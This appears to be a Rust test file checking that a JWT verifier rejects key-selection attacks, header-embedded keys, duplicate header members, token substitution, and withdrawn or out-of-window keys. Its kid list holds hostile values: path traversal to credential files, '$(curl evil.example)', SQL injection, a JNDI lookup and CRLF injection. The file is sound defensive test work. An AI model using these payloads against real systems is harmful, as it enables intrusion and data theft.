//! Key attacks: which key a `kid` selects (exactly that key, no traversal or injection, one
//! refetch per cooldown for unknown kids), header-embedded keys and key references, duplicated
//! header members, token substitution, keys used outside their purpose or validity window, and
//! keys the issuer withdrew (`proof_tombstones`) while still serving them.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use proofgate_core::testing::{self, b64, SigningKey};
use proofgate_core::Reason;
use serde_json::{json, Value};

use crate::common::{rig, rig_with, Tuning};
use crate::{base_claims, with, Corpus, KID};

#[tokio::test]
async fn key_selection_attacks() {
    let r = rig_with(Tuning {
        cooldown: std::time::Duration::from_secs(60),
        ..Tuning::default()
    })
    .await;
    let k = &r.key;
    let claims = base_claims();
    let payload = claims.to_string();
    let attacker = SigningKey::rsa("attacker");
    // A second published key, to check that a kid selects exactly that key.
    let second = SigningKey::rsa("proof-holdings-2026-02");
    let ec = SigningKey::es256("proof-holdings-ec-1");
    r.server.set_jwks(testing::jwks(&[k, &second, &ec]));
    r.keys.refresh().await.unwrap();
    let mut c = Corpus::default();

    // kid path traversal and injection: never a file, a query or a URL, only an exact name.
    let hostile_kids = [
        "../../../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "https://evil.example/jwks.json",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "$(curl evil.example)",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "proof-holdings-2026-01\u{0}",
        "proof-holdings-2026-01 ",
        " proof-holdings-2026-01",
        "PROOF-HOLDINGS-2026-01",
        "proof-holdings-2026-01/../proof-holdings-2026-01",
        "proof-holdings-2026-01\r\nx-injected: 1",
        "proof-holdings-*",
        "*",
        "",
        "%00",
    ];
    for kid in hostile_kids {
        let header = json!({"alg": "RS256", "typ": "JWT", "kid": kid});
        c.add(
            "kid injection",
            format!("{kid:?} signed by the attacker"),
            attacker.sign_raw(&header, payload.as_bytes()),
            Reason::UnknownKey,
        );
        c.add(
            "kid injection",
            format!("{kid:?} signed by the issuer's own key"),
            k.sign_raw(&header, payload.as_bytes()),
            Reason::UnknownKey,
        );
    }
    let long_kid = "k".repeat(4000);
    c.add(
        "kid injection",
        "a 4000-byte kid",
        attacker.sign_raw(
            &json!({"alg": "RS256", "kid": long_kid}),
            payload.as_bytes(),
        ),
        Reason::UnknownKey,
    );
    for (what, kid) in [
        ("a number", json!(1)),
        ("an object", json!({"$ne": null})),
        ("an array", json!([KID])),
        ("true", json!(true)),
    ] {
        c.add(
            "kid injection",
            format!("kid {what}"),
            k.sign_raw(&json!({"alg": "RS256", "kid": kid}), payload.as_bytes()),
            Reason::Malformed,
        );
    }
    // A kid selects exactly that key: no fallback to another published key.
    c.add(
        "kid selection",
        "signed by the first key, kid of the second",
        k.sign_raw(
            &json!({"alg": "RS256", "kid": second.kid()}),
            payload.as_bytes(),
        ),
        Reason::InvalidSignature,
    );
    c.add(
        "kid selection",
        "the attacker's key under the issuer's kid",
        attacker.sign_raw(&json!({"alg": "RS256", "kid": KID}), payload.as_bytes()),
        Reason::InvalidSignature,
    );
    // Without a kid, each published key of the algorithm is tried (the SDKs' rule) — and only
    // the published ones.
    c.ok(
        "kid selection",
        "no kid, second key",
        second.sign_raw(&json!({"alg": "RS256", "typ": "JWT"}), payload.as_bytes()),
    );
    c.ok(
        "kid selection",
        "kid null, EC key",
        ec.sign_raw(&json!({"alg": "ES256", "kid": null}), payload.as_bytes()),
    );
    c.add(
        "kid selection",
        "no kid, the attacker's key",
        attacker.sign_raw(&json!({"alg": "RS256"}), payload.as_bytes()),
        Reason::InvalidSignature,
    );
    // Header-embedded keys and key references, each carrying the attacker's own key or a URL
    // serving it, signed by the attacker: refused before any key is looked at.
    let evil_jwks = "https://evil.example/.well-known/jwks.json";
    let issuer_jwks = r.server.jwks_url();
    for (name, extra) in [
        ("jwk: the attacker's key", json!({"jwk": attacker.jwk()})),
        ("jwk: an empty object", json!({"jwk": {}})),
        ("jku: evil", json!({"jku": evil_jwks})),
        ("jku: the issuer's own JWKS", json!({"jku": issuer_jwks})),
        ("jku: relative", json!({"jku": "/.well-known/jwks.json"})),
        ("x5u: evil", json!({"x5u": "https://evil.example/cert.pem"})),
        (
            "x5c: a chain",
            json!({"x5c": [STANDARD.encode(attacker.public_key_bytes())]}),
        ),
        ("x5c: empty", json!({"x5c": []})),
        ("x5t", json!({"x5t": "dGh1bWJwcmludA"})),
        ("x5t#S256", json!({"x5t#S256": "dGh1bWJwcmludA"})),
        ("crit: empty", json!({"crit": []})),
        ("crit: b64", json!({"crit": ["b64"], "b64": false})),
        ("crit: unknown", json!({"crit": ["exp"], "exp": 1})),
        ("cty: JWT", json!({"cty": "JWT"})),
        ("cty: jwt", json!({"cty": "jwt"})),
    ] {
        for (who, key, kid) in [("attacker", &attacker, "attacker"), ("issuer", k, KID)] {
            let mut header = json!({"alg": "RS256", "typ": "JWT", "kid": kid});
            header
                .as_object_mut()
                .unwrap()
                .extend(extra.as_object().unwrap().clone());
            c.add(
                "header-embedded key",
                format!("{name}, signed by the {who}"),
                key.sign_raw(&header, payload.as_bytes()),
                Reason::ForbiddenHeader,
            );
        }
    }
    // Duplicated header members: refused, whichever copy a lenient parser would keep.
    let h = b64(r#"{"alg":"none","alg":"RS256","kid":"proof-holdings-2026-01"}"#);
    let dup_alg = {
        let input = format!("{h}.{}", b64(&payload));
        format!("{input}.{}", b64(k.sign_bytes(input.as_bytes())))
    };
    c.add(
        "duplicate JSON keys",
        "alg twice",
        dup_alg,
        Reason::Malformed,
    );
    let h = b64(r#"{"alg":"RS256","kid":"attacker","kid":"proof-holdings-2026-01"}"#);
    let dup_kid = {
        let input = format!("{h}.{}", b64(&payload));
        format!("{input}.{}", b64(k.sign_bytes(input.as_bytes())))
    };
    c.add(
        "duplicate JSON keys",
        "kid twice",
        dup_kid,
        Reason::Malformed,
    );
    let h = b64(
        r#"{"alg":"RS256","kid":"proof-holdings-2026-01","jku":null,"jku":"https://evil.example/"}"#,
    );
    let dup_jku = {
        let input = format!("{h}.{}", b64(&payload));
        format!("{input}.{}", b64(k.sign_bytes(input.as_bytes())))
    };
    c.add(
        "duplicate JSON keys",
        "jku null then a URL",
        dup_jku,
        Reason::Malformed,
    );
    c.check(&r);

    // A flood of distinct unknown kids costs at most one JWKS refetch per cooldown.
    let before = r.server.jwks_hits();
    for i in 0..300 {
        let t = attacker.sign_raw(
            &json!({"alg": "RS256", "kid": format!("flood-{i}")}),
            payload.as_bytes(),
        );
        assert_eq!(r.enforcer.check_token(&t).err(), Some(Reason::UnknownKey));
    }
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let refetches = r.server.jwks_hits() - before;
    assert!(refetches <= 1, "{refetches} JWKS refetches for a kid flood");
}

#[tokio::test]
async fn key_purpose_and_window_attacks() {
    let r = rig().await;
    let k = &r.key;
    let status_key = SigningKey::rsa("status-2026");
    let delegation_key = SigningKey::es256("delegation-2026");
    let retired = SigningKey::rsa("retired-2025");
    let future = SigningKey::rsa("future-2027");
    let short = SigningKey::es256("short-lived");
    let now = testing::now();
    let jwk = |key: &SigningKey, extra: Value| {
        let mut j = key.jwk();
        j.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        j
    };
    let jwks = json!({"keys": [
        k.jwk(),
        jwk(&status_key, json!({"proof_purpose": "status-list"})),
        jwk(&delegation_key, json!({"proof_purpose": "delegation"})),
        jwk(&retired, json!({"proof_purpose": "proof", "not_after": now - 86400})),
        jwk(&future, json!({"proof_purpose": "proof", "not_before": testing::rfc3339(now + 86400)})),
        jwk(&short, json!({"proof_purpose": "proof", "max_token_lifetime": 3600})),
    ]});
    r.server.set_jwks(jwks);
    r.keys.refresh().await.unwrap();
    let claims = base_claims();
    let mut c = Corpus::default();
    c.add(
        "key purpose",
        "proof signed by the status-list key",
        status_key.sign_json(&claims),
        Reason::UnknownKey,
    );
    c.add(
        "key purpose",
        "proof signed by the delegation key",
        delegation_key.sign_json(&claims),
        Reason::UnknownKey,
    );
    c.add(
        "key purpose",
        "status-list key, no kid",
        status_key.sign_raw(&json!({"alg": "RS256"}), claims.to_string().as_bytes()),
        Reason::InvalidSignature,
    );
    c.add(
        "key window",
        "issued by a retired key after its window",
        retired.sign_json(&claims),
        Reason::InvalidSignature,
    );
    c.ok(
        "key window",
        "issued by the retired key inside its window",
        retired.sign_json(&with(claims.clone(), "iat", json!(now - 2 * 86400))),
    );
    c.add(
        "key window",
        "issued by a key before its window",
        future.sign_json(&claims),
        Reason::InvalidSignature,
    );
    c.add(
        "key window",
        "lifetime longer than the key allows",
        short.sign_json(&claims),
        Reason::InvalidClaims,
    );
    c.ok(
        "key window",
        "lifetime inside what the key allows",
        short.sign_json(&with(claims.clone(), "exp", json!(now + 1800))),
    );
    // Another signed document of the issuer's presented as a proof token.
    let uri = r.server.status_list_url("1");
    c.add(
        "token substitution",
        "a status-list JWT",
        testing::status_list_jwt(&status_key, &uri, 2, &[0], 60),
        Reason::UnknownKey,
    );
    c.add(
        "token substitution",
        "a status-list JWT signed by the proof key",
        testing::status_list_jwt(k, &uri, 2, &[0], 60),
        Reason::Malformed,
    );
    let list = testing::revocation_list(Some(k), &["x"]);
    c.add(
        "token substitution",
        "a revocation list's signature",
        list["signature"].as_str().unwrap().to_string(),
        Reason::Issuer,
    );
    c.add(
        "token substitution",
        "a delegation token",
        k.sign_json(&with(claims.clone(), "token_type", json!("delegation"))),
        Reason::InvalidClaims,
    );
    c.add(
        "token substitution",
        "token_type in capitals",
        k.sign_json(&with(claims.clone(), "token_type", json!("PROOF"))),
        Reason::InvalidClaims,
    );
    c.ok(
        "token substitution",
        "token_type proof",
        k.sign_json(&with(claims.clone(), "token_type", json!("proof"))),
    );
    c.check(&r);
}

#[tokio::test]
async fn withdrawn_key_attacks() {
    let r = rig().await;
    let k = &r.key;
    // Withdrawn, still served: an RSA key tombstoned as `{kid, revoked_at}` and an ES256 key
    // tombstoned by its bare kid (both forms the issuer's documents use).
    let withdrawn = SigningKey::rsa("proof-holdings-2025-07");
    let withdrawn_ec = SigningKey::es256("proof-holdings-ec-2025");
    let attacker = SigningKey::rsa("attacker");
    let claims = base_claims();
    // Signed and cached while the key is in good standing: the tombstone must reach it too.
    let cached = withdrawn.sign_json(&with(claims.clone(), "sub", json!("cached-before")));
    r.server
        .set_jwks(testing::jwks(&[k, &withdrawn, &withdrawn_ec]));
    r.keys.refresh().await.unwrap();
    assert_eq!(r.enforcer.check_token(&cached).err(), None);

    let mut jwks = testing::jwks(&[k, &withdrawn, &withdrawn_ec]);
    jwks["proof_tombstones"] = json!([
        {"kid": withdrawn.kid(), "revoked_at": testing::now() - 3600},
        withdrawn_ec.kid(),
    ]);
    r.server.set_jwks(jwks);
    r.keys.refresh().await.unwrap();

    let mut c = Corpus::default();
    c.add(
        "withdrawn key",
        "signed by a tombstoned RSA key ({kid, revoked_at})",
        withdrawn.sign_json(&claims),
        Reason::ProofKeyRevoked,
    );
    c.add(
        "withdrawn key",
        "signed by a tombstoned ES256 key (bare kid)",
        withdrawn_ec.sign_json(&claims),
        Reason::ProofKeyRevoked,
    );
    c.add(
        "withdrawn key",
        "cached while the key was good, then the key tombstoned",
        cached,
        Reason::ProofKeyRevoked,
    );
    c.add(
        "withdrawn key",
        "no kid, verified only by the tombstoned key",
        withdrawn.sign_raw(
            &json!({"alg": "RS256", "typ": "JWT"}),
            claims.to_string().as_bytes(),
        ),
        Reason::ProofKeyRevoked,
    );
    // The signature is checked first: a forged token naming the withdrawn kid is a bad
    // signature, whatever the tombstone says.
    c.add(
        "withdrawn key",
        "the tombstoned kid, signed by an attacker",
        attacker.sign_raw(&withdrawn.header(), claims.to_string().as_bytes()),
        Reason::InvalidSignature,
    );
    c.ok(
        "withdrawn key",
        "the issuer's current key beside the tombstones",
        k.sign_json(&claims),
    );
    c.ok(
        "withdrawn key",
        "no kid, verified by the current key",
        k.sign_raw(
            &json!({"alg": "RS256", "typ": "JWT"}),
            claims.to_string().as_bytes(),
        ),
    );
    c.check(&r);
}
